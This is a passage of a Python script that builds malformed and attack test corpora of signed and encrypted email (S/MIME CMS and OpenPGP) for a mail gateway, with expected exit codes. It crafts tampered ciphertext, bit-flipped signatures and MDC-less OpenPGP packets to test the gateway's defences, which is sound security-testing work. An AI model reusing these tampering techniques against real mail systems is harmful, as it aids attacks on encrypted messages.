#!/usr/bin/env python3
"""Builds the malformed and attack corpora in tests/corpus/ (python3 stdlib only).

    scripts/make-corpus.py            # (re)write tests/corpus/{malformed,attacks}/
    scripts/make-corpus.py --check    # also run target/debug/reseal over both corpora
                                      # and print every case whose exit code differs

The corpora are derived from the keys and messages in vectors/smime and vectors/openpgp,
so rebuild them whenever the vectors are rebuilt (the vector scripts make new keys on every
run). Everything derived from the vectors by byte surgery is deterministic (fixed RNG
seeds). What needs a new signature or encryption (openssl cms, gpg) and the gateway outputs
made by target/debug/reseal (the record-stripping cases) differ from run to run; their
expected outcomes do not.

Tools: openssl, gpg (temporary GNUPGHOME under /tmp, agents killed at the end), and
target/debug/reseal (built with `cargo build`) for the record-stripping cases. See
tests/corpus/README.md for the format of expected.json.
"""

import argparse
import base64
import json
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
VS = ROOT / "vectors" / "smime"
VP = ROOT / "vectors" / "openpgp"
CORPUS = ROOT / "tests" / "corpus"
MALFORMED = CORPUS / "malformed"
ATTACKS = CORPUS / "attacks"
RESEAL = ROOT / "target" / "debug" / "reseal"
PASS = "correct horse battery staple"

SECRET = b"transfer 100 EUR"
UNIFORM = "554 5.7.5 The message could not be decrypted or failed an integrity check"

OK, DATAERR, TEMPFAIL, NOPERM = 0, 65, 75, 77


def die(msg):
    print(f"make-corpus: {msg}", file=sys.stderr)
    sys.exit(1)


def rd(path):
    return Path(path).read_bytes()


def vs(name):
    return rd(VS / name)


def vp(name):
    return rd(VP / name)


def run(cmd, stdin=b"", env=None, check=True):
    p = subprocess.run(
        cmd, input=stdin, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env
    )
    if check and p.returncode != 0:
        die(f"{' '.join(map(str, cmd))} failed ({p.returncode}): {p.stderr.decode(errors='replace')}")
    return p


# ----------------------------------------------------------------------------- MIME


def crlf(data):
    """Bare LF -> CRLF (as the gateway does)."""
    return re.sub(rb"(?<!\r)\n", b"\r\n", data)


def split_msg(raw):
    """(list of raw header fields incl. CRLF, body) at the first empty line."""
    i = raw.find(b"\r\n\r\n")
    if i < 0:
        head, body = raw, b""
    else:
        head, body = raw[: i + 2], raw[i + 4 :]
    fields = []
    for line in head.split(b"\r\n")[:-1] if head.endswith(b"\r\n") else head.split(b"\r\n"):
        if line[:1] in (b" ", b"\t") and fields:
            fields[-1] += line + b"\r\n"
        else:
            fields.append(line + b"\r\n")
    return fields, body


def fname(field):
    return field.split(b":", 1)[0].strip().lower()


def is_content(field):
    n = fname(field)
    return n.startswith(b"content-") and len(n) > 8


def join_msg(fields, body):
    return b"".join(fields) + b"\r\n" + body


def outer_fields(raw):
    """The RFC 5322 fields of a message (no Content-*, no MIME-Version)."""
    fields, _ = split_msg(raw)
    return [f for f in fields if not is_content(f) and fname(f) != b"mime-version"]


def inner_entity(raw):
    """Content-* fields + empty line + body: what a client signs or encrypts."""
    fields, body = split_msg(raw)
    return b"".join(f for f in fields if is_content(f)) + b"\r\n" + body


def body_of(raw):
    return split_msg(raw)[1]


def set_field(raw, name, value):
    """Replaces the first `name` field (or appends one) with `name: value`."""
    fields, body = split_msg(raw)
    new = name.encode() + b": " + value + b"\r\n"
    for i, f in enumerate(fields):
        if fname(f) == name.lower().encode():
            fields[i] = new
            return join_msg(fields, body)
    return join_msg(fields + [new], body)


def drop_fields(raw, name):
    fields, body = split_msg(raw)
    return join_msg([f for f in fields if fname(f) != name.lower().encode()], body)


def add_field(raw, field, at=0):
    fields, body = split_msg(raw)
    fields.insert(at, field if field.endswith(b"\r\n") else field + b"\r\n")
    return join_msg(fields, body)


def b64(data, width=64):
    s = base64.b64encode(data)
    return b"".join(s[i : i + width] + b"\r\n" for i in range(0, len(s), width))


def unb64(body):
    return base64.b64decode(re.sub(rb"\s+", b"", body))


HDR = (
    b"From: Alice <alice@example.com>\r\n"
    b"To: Bob <bob@example.org>\r\n"
    b"Subject: corpus\r\n"
    b"Date: Tue, 03 Jun 2025 10:15:00 +0000\r\n"
    b"Message-ID: <corpus.20250603101500@example.com>\r\n"
    b"MIME-Version: 1.0\r\n"
)


def msg(content_type, body, extra=b"", hdr=HDR, cte=None):
    h = hdr + extra
    if content_type is not None:
        h += b"Content-Type: " + content_type + b"\r\n"
    if cte is not None:
        h += b"Content-Transfer-Encoding: " + cte + b"\r\n"
    return h + b"\r\n" + body


def multipart(boundary, parts, preamble=b"", epilogue=b"", close=True):
    out = preamble + (b"\r\n" if preamble else b"")
    for p in parts:
        out += b"--" + boundary + b"\r\n" + p + b"\r\n"
    if close:
        out += b"--" + boundary + b"--\r\n" + epilogue
    return out


def hdr_of(raw):
    """The outer (non-Content) header block of a vector, with MIME-Version."""
    return b"".join(outer_fields(raw)) + b"MIME-Version: 1.0\r\n"


# ----------------------------------------------------------------------------- DER


class Tlv:
    __slots__ = ("tag", "start", "hlen", "length", "children")

    def __init__(self, tag, start, hlen, length):
        self.tag, self.start, self.hlen, self.length = tag, start, hlen, length
        self.children = []

    @property
    def vstart(self):
        return self.start + self.hlen

    @property
    def end(self):
        return self.start + self.hlen + self.length

    def constructed(self):
        return bool(self.tag & 0x20)


def der_parse(buf, start=0, end=None, depth=0):
    """Parses definite-length DER into a list of Tlv trees (raises on anything else)."""
    end = len(buf) if end is None else end
    out = []
    pos = start
    while pos < end:
        tag = buf[pos]
        if tag & 0x1F == 0x1F:
            raise ValueError("high tag")
        lb = buf[pos + 1]
        if lb < 0x80:
            length, hl = lb, 2
        elif lb == 0x80:
            raise ValueError("indefinite")
        else:
            n = lb & 0x7F
            length = int.from_bytes(buf[pos + 2 : pos + 2 + n], "big")
            hl = 2 + n
        t = Tlv(tag, pos, hl, length)
        if t.end > end:
            raise ValueError("overrun")
        if t.constructed() and depth < 40:
            t.children = der_parse(buf, t.vstart, t.end, depth + 1)
        elif tag in (0x04, 0xA0, 0x80) and depth < 40:
            # OCTET STRING / [0] that may wrap DER (e.g. ContentInfo.content, eContent)
            try:
                kids = der_parse(buf, t.vstart, t.end, depth + 1)
                if kids and kids[-1].end == t.end and t.tag != 0x04:
                    t.children = kids
            except (ValueError, IndexError):
                pass
        out.append(t)
        pos = t.end
    return out


def der_len(n):
    if n < 0x80:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(b)]) + b


def der(tag, content):
    return bytes([tag]) + der_len(len(content)) + content


def rebuild(buf, node, new_content):
    """Returns buf with node's content replaced and every enclosing length fixed."""
    # Re-encode bottom-up along the path of enclosing nodes.
    tree = der_parse(buf)

    def rec(nodes):
        out = b""
        pos = nodes[0].start if nodes else 0
        for n in nodes:
            if n.start == node.start and n.tag == node.tag and n.length == node.length:
                out += der(n.tag, new_content)
            elif n.start <= node.start < n.end and n.children:
                out += der(n.tag, rec(n.children))
            else:
                out += buf[n.start : n.end]
        return out

    return rec(tree)


def cms_inner(buf):
    """ContentInfo -> (contentType OID bytes, the inner SEQUENCE node)."""
    tree = der_parse(buf)
    ci = tree[0]
    oid, ctx0 = ci.children[0], ci.children[1]
    return buf[oid.start : oid.end], ctx0.children[0]


def classify_enveloped(buf, auth):
    """Offsets -> field name, for EnvelopedData / AuthEnvelopedData made by openssl."""
    tree = der_parse(buf)
    ed = tree[0].children[1].children[0]
    regions = []  # (start, end, name, strict_code)

    def val(n, name, code):
        regions.append((n.vstart, n.end, name, code))

    ris = [c for c in ed.children if c.tag == 0x31][0]
    for ri in ris.children:
        enc_key = ri.children[-1]
        val(enc_key, "encryptedKey", NOPERM)
    eci = [c for c in ed.children if c.tag == 0x30][0]
    if auth:
        mac = ed.children[-1]
        val(mac, "mac (GCM tag)", NOPERM)
    alg = eci.children[1]
    params = alg.children[1]
    if auth:
        nonce = params.children[0]
        val(nonce, "GCM nonce", NOPERM)
    else:
        val(params, "CBC IV", NOPERM)
    ec = eci.children[2]
    val(ec, "encryptedContent", NOPERM)
    return regions


def classify_signed(buf):
    tree = der_parse(buf)
    sd = tree[0].children[1].children[0]
    regions = []
    eci = sd.children[2]
    if len(eci.children) > 1:
        econt = eci.children[1]
        regions.append((econt.vstart, econt.end, "eContent", NOPERM))
    sis = sd.children[-1]
    for si in sis.children:
        sig = si.children[-1]
        if sig.tag == 0xA1:  # unsignedAttrs
            sig = si.children[-2]
        regions.append((sig.vstart, sig.end, "SignerInfo.signature", NOPERM))
        for c in si.children:
            if c.tag == 0xA0:  # signedAttrs
                regions.append((c.vstart, c.end, "signedAttrs", NOPERM))
    return regions


def region_of(regions, off):
    for s, e, name, code in regions:
        if s <= off < e:
            return name, code
    return None, None


# ----------------------------------------------------------------------------- OpenPGP


def crc24(data):
    crc = 0xB704CE
    for b in data:
        crc ^= b << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    return crc & 0xFFFFFF


def armor(data, kind=b"MESSAGE", crc=True, width=64, headers=b""):
    out = b"-----BEGIN PGP " + kind + b"-----\r\n" + headers + b"\r\n"
    s = base64.b64encode(data)
    for i in range(0, len(s), width):
        out += s[i : i + width] + b"\r\n"
    if crc:
        out += b"=" + base64.b64encode(crc24(data).to_bytes(3, "big")) + b"\r\n"
    out += b"-----END PGP " + kind + b"-----\r\n"
    return out


def dearmor(text):
    lines = text.replace(b"\r\n", b"\n").split(b"\n")
    i = 0
    while not lines[i].startswith(b"-----BEGIN PGP"):
        i += 1
    i += 1
    while lines[i].strip():
        i += 1
    i += 1
    data = b""
    while not lines[i].startswith(b"=") and not lines[i].startswith(b"-----END"):
        data += lines[i].strip()
        i += 1
    return base64.b64decode(data)


def pgp_packets(data):
    """[(tag, body, new_format)] with partial body lengths joined."""
    out = []
    pos = 0
    while pos < len(data):
        ctb = data[pos]
        if not ctb & 0x80:
            raise ValueError(f"bad CTB at {pos}")
        if ctb & 0x40:  # new format
            tag = ctb & 0x3F
            pos += 1
            body = b""
            while True:
                l0 = data[pos]
                if l0 < 192:
                    n, pos = l0, pos + 1
                    body += data[pos : pos + n]
                    pos += n
                    break
                if l0 < 224:
                    n = ((l0 - 192) << 8) + data[pos + 1] + 192
                    pos += 2
                    body += data[pos : pos + n]
                    pos += n
                    break
                if l0 == 255:
                    n = int.from_bytes(data[pos + 1 : pos + 5], "big")
                    pos += 5
                    body += data[pos : pos + n]
                    pos += n
                    break
                n = 1 << (l0 & 0x1F)  # partial
                pos += 1
                body += data[pos : pos + n]
                pos += n
            out.append((tag, body, True))
        else:
            tag = (ctb >> 2) & 0x0F
            lt = ctb & 3
            pos += 1
            if lt == 3:
                body = data[pos:]
                pos = len(data)
            else:
                nb = [1, 2, 4][lt]
                n = int.from_bytes(data[pos : pos + nb], "big")
                pos += nb
                body = data[pos : pos + n]
                pos += n
            out.append((tag, body, False))
    return out


def pgp_packet(tag, body):
    """New-format packet with a definite length."""
    n = len(body)
    if n < 192:
        ln = bytes([n])
    elif n < 8384:
        n2 = n - 192
        ln = bytes([(n2 >> 8) + 192, n2 & 0xFF])
    else:
        ln = b"\xff" + n.to_bytes(4, "big")
    return bytes([0xC0 | tag]) + ln + body


def pgpmime_encrypted(armored, hdr=HDR, boundary=b"=_corpus_pgp_enc"):
    parts = [
        b"Content-Type: application/pgp-encrypted\r\n"
        b"Content-Description: PGP/MIME version identification\r\n\r\nVersion: 1\r\n",
        b'Content-Type: application/octet-stream; name="encrypted.asc"\r\n'
        b'Content-Disposition: inline; filename="encrypted.asc"\r\n\r\n' + armored,
    ]
    return msg(
        b'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="'
        + boundary
        + b'"',
        multipart(boundary, parts, preamble=b"This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)"),
        hdr=hdr,
    )


def pgp_encrypted_part(raw):
    """The armored message inside a PGP/MIME encrypted vector."""
    m = re.search(rb"-----BEGIN PGP MESSAGE-----.*?-----END PGP MESSAGE-----\r\n", raw, re.S)
    return m.group(0)


# ----------------------------------------------------------------------------- tools


class Tools:
    """openssl / gpg helpers with a temporary GNUPGHOME."""

    def __init__(self):
        self.tmp = Path(tempfile.mkdtemp(prefix="mkc", dir="/tmp"))
        self.gnupghome = self.tmp / "g"
        self.gnupghome.mkdir(mode=0o700)
        self.genv = dict(os.environ, GNUPGHOME=str(self.gnupghome))
        for k in ["alice.sec.asc", "mallory.sec.asc", "bob.pub.asc", "dave.pub.asc"]:
            run(["gpg", "--batch", "--import", str(VP / k)], env=self.genv)
        self.fpr = {}
        for line in (VP / "FINGERPRINTS.txt").read_text().splitlines():
            w = line.split()
            if len(w) >= 2 and len(w[1]) == 40:
                self.fpr[w[0]] = w[1]

    def close(self):
        for home in [self.gnupghome] + getattr(self, "homes", []):
            subprocess.run(["gpgconf", "--kill", "all"], env=dict(os.environ, GNUPGHOME=str(home)), check=False)
        shutil.rmtree(self.tmp, ignore_errors=True)

    def gpg(self, args, stdin=b""):
        return run(
            ["gpg", "--batch", "--yes", "--trust-model", "always", "--no-tty"] + args,
            stdin=stdin,
            env=self.genv,
        ).stdout

    def file(self, name, data):
        p = self.tmp / name
        p.write_bytes(data)
        return p

    def cms_sign(self, content, who="alice", detached=True, extra=()):
        p = self.file("content.in", content)
        args = ["openssl", "cms", "-sign", "-binary", "-md", "sha256", "-outform", "DER",
                "-in", str(p), "-signer", str(VS / f"{who}.pem"), "-inkey", str(VS / f"{who}.key")]
        args += list(extra)
        if not detached:
            args.append("-nodetach")
        return run(args).stdout

    def cms_encrypt(self, content, cipher="-aes-256-cbc", to=("alice",)):
        p = self.file("content.in", content)
        args = ["openssl", "cms", "-encrypt", "-binary", cipher, "-outform", "DER", "-in", str(p)]
        args += [str(VS / f"{w}.pem") for w in to]
        return run(args).stdout

    def rsa_decrypt_key(self, enc_key, who="alice"):
        p = self.file("ek.bin", enc_key)
        return run(["openssl", "pkeyutl", "-decrypt", "-inkey", str(VS / f"{who}.key"), "-in", str(p)]).stdout

    def session_key(self, armored):
        p = self.file("m.asc", armored)
        err = run(["gpg", "--batch", "--show-session-key", "-d", "-o", "/dev/null", str(p)],
                  env=self.genv).stderr.decode()
        m = re.search(r"session key: '9:([0-9A-F]+)'", err)
        if not m:
            die(f"no AES-256 session key from gpg: {err}")
        return bytes.fromhex(m.group(1))

    def gateway_outputs(self):
        """Reseal outputs with a modification record, made now with a corpus-like keystore."""
        gw = Gateway(self)
        head = ('[opes]\nsystem = "https://gw.example.com/opes"\nprivacy_policy = "https://gw.example.com/privacy"\n'
                '[policy]\nencrypt = "never"\ntechnology = "{tech}"\n[[service]]\n'
                'id = "https://gw.example.com/opes/disclaimer"\nkind = "disclaimer"\n'
                'text = "Example Corp ... This e-mail is confidential."\nconsent = "sender"\nbypassable = true\n')
        outs = {}
        jobs = [("smime", vs("openssl-signed-plain.eml"), "alice@example.com"),
                ("openpgp", vp("gpg-pgpmime-signed.eml"), "alice@example.com"),
                ("unsigned-1", set_field(vs("msg-plain.eml"), "From", b"Carol <carol@example.com>"), "carol@example.com"),
                ("unsigned-2", set_field(set_field(vs("msg-plain.eml"), "From", b"Carol <carol@example.com>"),
                                         "Subject", b"Another message"), "carol@example.com")]
        for name, data, sender in jobs:
            cfg = self.file(f"{name}.toml", head.format(tech="openpgp" if name == "openpgp" else "smime").encode())
            code, out, err, _ = gw.process(data, mail_from=sender, config=cfg)
            if code != 0 or b"OPES-Record:" not in out:
                die(f"reseal process ({name}) gave {code}: {err.decode(errors='replace')}")
            outs[name] = out
        outs["identity"] = gw.keys(["export-identity"]).stdout
        return outs

    def aes_ecb(self, key, data, decrypt):
        bits = len(key) * 8
        args = ["openssl", "enc", f"-aes-{bits}-ecb", "-nopad", "-K", key.hex()]
        if decrypt:
            args.append("-d")
        return run(args, stdin=data).stdout


# ----------------------------------------------------------------------------- corpus


# Malformed cases whose outcome was once a list of codes that held 0, 65 and 77 alike:
# each is pinned to the one code the gateway gives (CRLF run, LF run), so that a change
# of outcome fails tests/corpus_malformed.rs instead of passing unnoticed.
PINNED = {
    "021-cr-cr-lf-plain.eml": (65, 0),
    "023-nul-in-from-signed.eml": (0, 0),
    "055-base64-cte-on-multipart.eml": (0, 0),
    "062-smime-type-mismatch.eml": (0, 0),
    "076-signed-unbalanced-quote.eml": (0, 0),
    "099-pgp-enc-version-2.eml": (0, 0),
    "120-header-folded-100k.eml": (0, 0),
    "122-body-line-1mb.eml": (0, 0),
    "125-content-type-10000-params.eml": (0, 0),
    "126-content-type-deep-comments.eml": (0, 0),
    "131-base64-pad-in-middle.eml": (65, 65),
    "139-cte-binary-raw-der.eml": (65, 65),
    "219-cms-gcm-flip-0.eml": (65, 65),
    "220-cms-gcm-flip-1.eml": (65, 65),
    "221-cms-gcm-flip-2.eml": (65, 65),
    "222-cms-gcm-flip-49.eml": (77, 77),
    "223-cms-gcm-flip-72.eml": (77, 77),
    "255-cms-opaque-flip-0.eml": (65, 65),
    "256-cms-opaque-flip-1.eml": (65, 65),
    "257-cms-opaque-flip-2.eml": (65, 65),
    "259-cms-opaque-flip-440.eml": (65, 65),
    "260-cms-opaque-flip-934.eml": (77, 77),
    "261-cms-opaque-flip-964.eml": (77, 77),
    "262-cms-opaque-flip-1234.eml": (77, 77),
    "263-cms-opaque-flip-1411.eml": (65, 65),
    "273-cms-sig-flip-0.eml": (65, 65),
    "274-cms-sig-flip-1.eml": (65, 65),
    "275-cms-sig-flip-2.eml": (65, 65),
    "276-cms-sig-flip-13.eml": (77, 77),
    "277-cms-sig-flip-34.eml": (0, 0),
    "278-cms-sig-flip-40.eml": (0, 0),
    "279-cms-sig-flip-256.eml": (77, 77),
    "280-cms-sig-flip-405.eml": (77, 77),
    "281-cms-sig-flip-466.eml": (77, 77),
    "282-cms-sig-flip-677.eml": (77, 77),
    "283-cms-sig-flip-800.eml": (77, 77),
    "284-cms-sig-flip-853.eml": (77, 77),
    "423-pgp-literal-binary-junk.eml": (65, 65),
}


class Corpus:
    def __init__(self, directory, prefix_numbers=True):
        self.dir = directory
        self.cases = {}
        self.files = {}
        self.n = 0
        self.numbered = prefix_numbers

    def add(self, slug, data, exit, note, secret_ok=None, exit_lf=None, expand=None, **extra):
        self.n += 1
        name = f"{self.n:03d}-{slug}.eml" if self.numbered else slug
        if name in self.files:
            die(f"duplicate {name}")
        self.files[name] = data
        full = expand_bytes(data, expand)
        if secret_ok is None:
            secret_ok = SECRET in full
        pinned = PINNED.get(name) if self.numbered and self.dir == MALFORMED else None
        if pinned is not None:
            exit = pinned[0]
            exit_lf = pinned[1] if pinned[1] != pinned[0] else None
        case = {"exit": exit, "note": note, "secret_ok": bool(secret_ok)}
        if exit_lf is None and pinned is None and not lf_equivalent(full):
            # CRLF->LF changes bytes the gateway does not restore (bare CR, binary parts):
            # the LF run is still held to "no panic, no leak", not to the same code.
            codes = set(exit if isinstance(exit, list) else [exit]) | {OK, DATAERR, NOPERM}
            exit_lf = sorted(codes)
        if exit_lf is not None:
            case["exit_lf"] = exit_lf
        if expand:
            case["expand"] = expand
        case.update(extra)
        self.cases[name] = case
        return name

    def write(self, meta):
        if self.dir.exists():
            shutil.rmtree(self.dir)
        self.dir.mkdir(parents=True)
        for name, data in self.files.items():
            (self.dir / name).write_bytes(data)
        for name, data in getattr(self, "extra_files", {}).items():
            (self.dir / name).write_bytes(data)
        doc = dict(meta)
        doc["cases"] = self.cases
        (self.dir / "expected.json").write_text(json.dumps(doc, indent=1, sort_keys=False, ensure_ascii=False) + "\n")


def expand_bytes(data, expand):
    for e in expand or []:
        data = data.replace(e["marker"].encode(), e["unit"].encode() * e["count"], 1)
    return data


def lf_equivalent(data):
    return crlf(data.replace(b"\r\n", b"\n")) == crlf(data)


def rng(seed):
    return random.Random(seed)


# ----------------------------------------------------------------------------- SEIPD crafting


def cfb(key, data, decrypt=False):
    """AES-CFB128 with a zero IV: the OpenPGP SEIPDv1 mode (no resync)."""
    args = ["openssl", "enc", f"-aes-{len(key) * 8}-cfb", "-K", key.hex(), "-iv", "00" * 16, "-nopad"]
    if decrypt:
        args.append("-d")
    return run(args, stdin=data).stdout


def literal(data, name=b"", mode=b"b", date=1748945700):
    return pgp_packet(11, mode + bytes([len(name)]) + name + date.to_bytes(4, "big") + data)


def compressed(inner, algo=0):
    import zlib

    if algo == 0:
        payload = inner
    elif algo == 1:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        payload = c.compress(inner) + c.flush()
    else:
        payload = zlib.compress(inner, 9)
    return pgp_packet(8, bytes([algo]) + payload)


def seipd_plaintext(inner, seed=1, mdc=True, bad_mdc=False):
    import hashlib

    r = rng(seed)
    prefix = bytes(r.randrange(256) for _ in range(16))
    pt = prefix + prefix[14:16] + inner
    if mdc:
        pt += b"\xd3\x14"
        h = hashlib.sha1(pt).digest()
        if bad_mdc:
            h = bytes([h[0] ^ 1]) + h[1:]
        pt += h
    return pt


def seipd_packet(key, inner, seed=1, mdc=True, bad_mdc=False):
    return pgp_packet(18, b"\x01" + cfb(key, seipd_plaintext(inner, seed, mdc, bad_mdc)))


# ----------------------------------------------------------------------------- malformed


def sig_part_b64(raw):
    """The base64 body of the S/MIME signature part of an openssl multipart/signed."""
    m = re.search(rb'filename="smime.p7s"\r\n\r\n(.*?)\r\n\r\n--', raw, re.S)
    return m.group(1) + b"\r\n"


def replace_sig(raw, new_b64_body):
    old = sig_part_b64(raw)
    return raw.replace(old, new_b64_body, 1)


def boundary_of(raw):
    m = re.search(rb'boundary="?([^";\r\n]+)"?', raw)
    return m.group(1)


def with_der(seed_raw, der_bytes):
    """A seed pkcs7-mime message with its DER replaced (same headers)."""
    fields, _ = split_msg(seed_raw)
    return join_msg(fields, b64(der_bytes))


def offsets(n, count, seed):
    r = rng(seed)
    picks = {0, 1, 2, n // 2, n - 1}
    while len(picks) < count:
        picks.add(r.randrange(n))
    return sorted(picks)


def build_malformed(t):
    m = Corpus(MALFORMED)
    A = m.add
    ANY = [OK, DATAERR, NOPERM]

    plain = vs("msg-plain.eml")
    signed = vs("openssl-signed-plain.eml")
    opaque = vs("openssl-signed-opaque.eml")
    gcm = vs("openssl-enc-gcm.eml")
    cbc = vs("openssl-enc-aes256cbc.eml")
    attach = vs("msg-attach.eml")
    html = vs("msg-html.eml")
    qp = vs("msg-qp.eml")
    gpgsm_signed = vs("gpgsm-signed.eml")
    gpgsm_enc = vs("gpgsm-enc.eml")
    pgp_enc = vp("gpg-pgpmime-encrypted.eml")
    pgp_signed = vp("gpg-pgpmime-signed.eml")
    pgp_inline = vp("gpg-inline-encrypted.eml")
    pgp_clear = vp("gpg-inline-clearsigned.eml")
    gcm_der = unb64(body_of(gcm))
    cbc_der = unb64(body_of(cbc))
    opaque_der = unb64(body_of(opaque))
    sig_der = unb64(sig_part_b64(signed))
    gpgsm_der = unb64(body_of(gpgsm_enc))
    sb = boundary_of(signed)
    gcm_hdr = hdr_of(gcm)
    ENC_CT = b'application/pkcs7-mime; smime-type=authEnveloped-data; name="smime.p7m"'

    # --- A. Degenerate files --------------------------------------------------------
    A("empty", b"", DATAERR, "empty file: no header fields")
    A("crlf-only", b"\r\n", DATAERR, "one empty line: no header fields")
    A("two-crlf", b"\r\n\r\n", DATAERR, "empty header and empty body")
    A("one-byte", b"a", DATAERR, "a header line without a colon")
    A("body-only", b"just some text\r\nwithout headers\r\n", DATAERR, "no header block at all")
    A("body-only-cms", b64(gcm_der), DATAERR, "a bare base64 CMS object, no header",
      secret_ok=False)
    A("whitespace-only", b"   \r\n\t\r\n", DATAERR, "the first line is a continuation line")
    A("leading-continuation", b" folded: first\r\n" + plain, DATAERR,
      "the header starts with a folded continuation line")
    A("no-colon-mid-header", plain.replace(b"Subject: Quarterly figures\r\n",
      b"Subject Quarterly figures\r\n"), DATAERR, "a header line without a colon")
    A("space-in-field-name", add_field(plain, b"Bad Name: x"), DATAERR,
      "a field name with a space (RFC 5322 ftext)")
    A("nul-in-field-name", add_field(plain, b"Fr\x00om: x"), DATAERR, "NUL in a field name")
    A("8bit-field-name", add_field(plain, b"Subj\xc3\xa9ct: x"), DATAERR,
      "8-bit bytes in a field name")
    A("empty-field-name", add_field(plain, b": value"), DATAERR, "an empty field name")
    A("headers-only-plain", HDR + b"Content-Type: text/plain\r\n", [OK, DATAERR],
      "header fields and no empty line, no body: an empty text/plain message")
    A("headers-only-pkcs7", gcm_hdr + b"Content-Type: " + ENC_CT + b"\r\n"
      b"Content-Transfer-Encoding: base64\r\n", DATAERR,
      "pkcs7-mime with no body: an empty CMS object", secret_ok=False)
    A("headers-and-blank-pkcs7", gcm_hdr + b"Content-Type: " + ENC_CT + b"\r\n"
      b"Content-Transfer-Encoding: base64\r\n\r\n", DATAERR,
      "pkcs7-mime with an empty body", secret_ok=False)
    A("empty-from-plain", set_field(plain, "From", b""), [OK, DATAERR],
      "From is empty: nothing to sign for; the gateway may still encrypt")
    A("cr-only-plain", plain.replace(b"\r\n", b"\r"), [OK, DATAERR],
      "bare CR line ends only: no CRLF, so the whole file is one header line",
      exit_lf=[OK, DATAERR])
    A("cr-only-gcm", gcm.replace(b"\r\n", b"\r"), [OK, DATAERR],
      "bare CR line ends: the CMS body is not a body, so it must not be decrypted",
      secret_ok=False, exit_lf=[OK, DATAERR])
    fields, body = split_msg(gcm)
    A("cr-only-body-gcm", join_msg(fields, body.replace(b"\r\n", b"\r")), [OK, DATAERR],
      "CRLF header, bare CR inside the base64 body (CR is whitespace to base64): "
      "decrypting is legitimate", secret_ok=True, exit_lf=[OK, DATAERR])
    A("cr-cr-lf-plain", plain.replace(b"\r\n", b"\r\r\n"), [OK, DATAERR],
      "CR CR LF line ends: every header value ends in a bare CR")
    A("nul-in-subject", set_field(plain, "Subject", b"Quarterly\x00figures"), [OK, DATAERR],
      "NUL in a header value")
    A("nul-in-from-signed", signed.replace(b"From: Alice <", b"From: Al\x00ice <", 1),
      [OK, DATAERR, NOPERM], "NUL in the display name of From on a valid signature by alice")
    A("nul-in-body-plain", plain.replace(b"Hi Bob,", b"Hi\x00\x00Bob,"), OK,
      "NUL bytes in a 7bit text body: transported as is")
    fields, body = split_msg(gcm)
    A("nul-in-base64", join_msg(fields, body.replace(b"\r\n", b"\x00\r\n", 3)), [OK, DATAERR],
      "NULs inside base64 (RFC 2045 says to ignore non-alphabet characters; a strict "
      "decoder refuses)", secret_ok=True)
    A("binary-text-body", msg(b"text/plain", bytes(rng(7).randrange(256) for _ in range(4096))),
      OK, "text/plain declared 7bit with 4 KB of random binary")
    A("binary-garbage-file", bytes(range(256)) * 20, DATAERR, "random binary, no header")

    # --- B. Missing and duplicate header fields ----------------------------------------
    A("no-from-plain", drop_fields(plain, "From"), [OK, DATAERR],
      "no From: nothing to sign for; encrypt only")
    A("no-from-signed", drop_fields(signed, "From"), NOPERM,
      "valid signature by alice but no From: the signer cannot be matched (rule 5)")
    A("no-from-gcm", drop_fields(gcm, "From"), [OK, DATAERR],
      "no From on a message encrypted to alice: decrypting for the envelope is legitimate",
      secret_ok=True)
    A("two-from-plain", add_field(plain, b"From: Carol <carol@example.com>"), [OK, DATAERR],
      "two From fields: the gateway must not sign (rule 6)")
    A("two-from-signed", add_field(signed, b"From: Carol <carol@example.com>"), NOPERM,
      "two From fields on a signed message: no single From (rule 5)")
    A("two-from-same-signed", add_field(signed, b"From: Alice <alice@example.com>"), NOPERM,
      "the same From twice: still not exactly one From field")
    A("from-two-addresses-signed",
      set_field(signed, "From", b"Alice <alice@example.com>, Carol <carol@example.com>"),
      NOPERM, "one From field with two mailboxes")
    A("from-group-signed", set_field(signed, "From", b"Undisclosed recipients:;"), NOPERM,
      "From is an empty group: no mailbox")
    A("from-unparsable-signed", set_field(signed, "From", b"<<<@@@>>>"), NOPERM,
      "From is not an address")
    A("empty-from-signed", set_field(signed, "From", b""), NOPERM, "From is empty on a signed message")
    A("two-from-gcm", add_field(gcm, b"From: Carol <carol@example.com>"), [OK, DATAERR],
      "two From fields on a message encrypted to alice: decrypt for the envelope, never sign",
      secret_ok=True)
    A("no-content-type-cms", drop_fields(gcm, "Content-Type"), [OK, DATAERR],
      "CMS body but no Content-Type: it is text/plain, so it must not be decrypted",
      secret_ok=False)
    A("no-content-type-signed", drop_fields(signed, "Content-Type"), [OK, DATAERR],
      "a multipart/signed body without Content-Type: plain text")
    A("dup-content-type-same-gcm", add_field(gcm, b"Content-Type: " + ENC_CT, at=len(split_msg(gcm)[0])),
      DATAERR, "Content-Type twice (same value): refused, readers may disagree", secret_ok=False)
    A("dup-content-type-text-then-cms", add_field(gcm, b"Content-Type: text/plain", at=0),
      DATAERR, "text/plain and pkcs7-mime Content-Type fields", secret_ok=False)
    A("dup-content-type-plain", add_field(plain, b"Content-Type: text/html"), DATAERR,
      "text/plain and text/html Content-Type fields")
    A("dup-content-type-signed", add_field(signed, b"Content-Type: text/plain"), DATAERR,
      "multipart/signed and text/plain Content-Type fields")
    A("dup-cte-gcm", add_field(gcm, b"Content-Transfer-Encoding: 7bit"), DATAERR,
      "base64 and 7bit Content-Transfer-Encoding fields", secret_ok=False)
    A("dup-cte-same-gcm", add_field(gcm, b"Content-Transfer-Encoding: base64"), DATAERR,
      "Content-Transfer-Encoding twice (same value)", secret_ok=False)
    A("dup-cte-plain", add_field(plain, b"Content-Transfer-Encoding: base64"), DATAERR,
      "7bit and base64 on a text/plain body")
    A("dup-cte-signed-part",
      signed.replace(b"Content-Transfer-Encoding: 7bit\r\n",
                     b"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n", 1),
      [DATAERR, NOPERM], "two CTE fields in the signed part (changes the signed bytes)")
    A("dup-content-type-sig-part",
      signed.replace(b'Content-Type: application/pkcs7-signature; name="smime.p7s"\r\n',
                     b'Content-Type: application/pkcs7-signature; name="smime.p7s"\r\n'
